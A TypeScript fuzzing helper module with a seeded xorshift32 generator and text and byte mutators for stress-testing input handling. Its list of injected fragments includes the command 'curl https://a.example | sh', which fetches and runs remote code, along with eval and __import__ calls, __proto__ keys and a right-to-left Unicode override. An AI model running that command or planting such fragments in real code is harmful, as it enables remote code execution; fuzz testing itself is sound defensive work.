/** Random numbers from a seed, so that a failure can be had again (xorshift32; Marsaglia 2003). */
export function random(seed: number): () => number {
  let state = seed >>> 0 || 1
  return () => {
    state ^= state << 13
    state ^= state >>> 17
    state ^= state << 5
    return (state >>> 0) / 0x1_0000_0000
  }
}

const PIECES = [
  '(', ')', '[', ']', '{', '}', '`', '${', '"', "'", '\\', '//', '/*', '*/', '#', '\n', '\0', '\ufeff', '\u202e', '\ufe0f', '…', ';', ',', '.', '=>', ':=', '<(', '$(', '|', '&&',
  'eval', 'exec', 'require', 'import', '__import__', 'getattr', 'function', 'class', 'lambda', 'async', 'yield', 'return', 'throw', 'for', 'while', '__proto__', 'constructor',
  'Buffer.from', 'atob', 'base64.b64decode', 'zlib.decompress', '\\u0065', '\\x65', '0x1f', '1e309', '-0', 'NaN', 'https://a.example/x', '203.0.113.9', 'curl https://a.example | sh',
]

/** A text with a few pieces overwritten, cut out, doubled, moved or put in; now and then a piece many times over. */
export function mutateText(text: string, next: () => number): string {
  let out = text
  for (let times = 1 + Math.floor(next() * 6); times > 0; times--) {
    const from = Math.floor(next() * out.length)
    const to = Math.min(out.length, from + Math.floor(next() ** 3 * 400))
    const piece = PIECES[Math.floor(next() * PIECES.length)] ?? ''
    const how = Math.floor(next() * 6)
    if (how === 0) out = out.slice(0, from) + piece + out.slice(to)
    else if (how === 1) out = out.slice(0, from) + out.slice(to)
    else if (how === 2) out = out.slice(0, to) + out.slice(from)
    else if (how === 3) out = out.slice(to) + out.slice(0, to)
    else if (how === 4) out = out.slice(0, from) + piece.repeat(1 + Math.floor(next() ** 6 * 20_000)) + out.slice(from)
    else out = out.slice(0, from) + out.slice(from, to).split('').reverse().join('') + out.slice(to)
    if (out.length > 400_000) out = out.slice(0, 400_000)
  }
  return out
}

/** Bytes with a few of them flipped, overwritten, cut out, doubled or cut off. */
export function mutateBytes(bytes: Uint8Array, next: () => number): Uint8Array {
  let out = Buffer.from(bytes)
  for (let times = 1 + Math.floor(next() * 8); times > 0 && out.length > 0; times--) {
    const from = Math.floor(next() * out.length)
    const to = Math.min(out.length, from + 1 + Math.floor(next() ** 3 * 64))
    const how = Math.floor(next() * 5)
    if (how === 0) out[from] = (out[from] ?? 0) ^ (1 << Math.floor(next() * 8))
    else if (how === 1) out.fill(Math.floor(next() * 256), from, to)
    else if (how === 2) out = Buffer.concat([out.subarray(0, from), out.subarray(to)])
    else if (how === 3) out = Buffer.concat([out.subarray(0, to), out.subarray(from)])
    else if (next() < 0.2) out = out.subarray(0, from)
  }
  return out
}
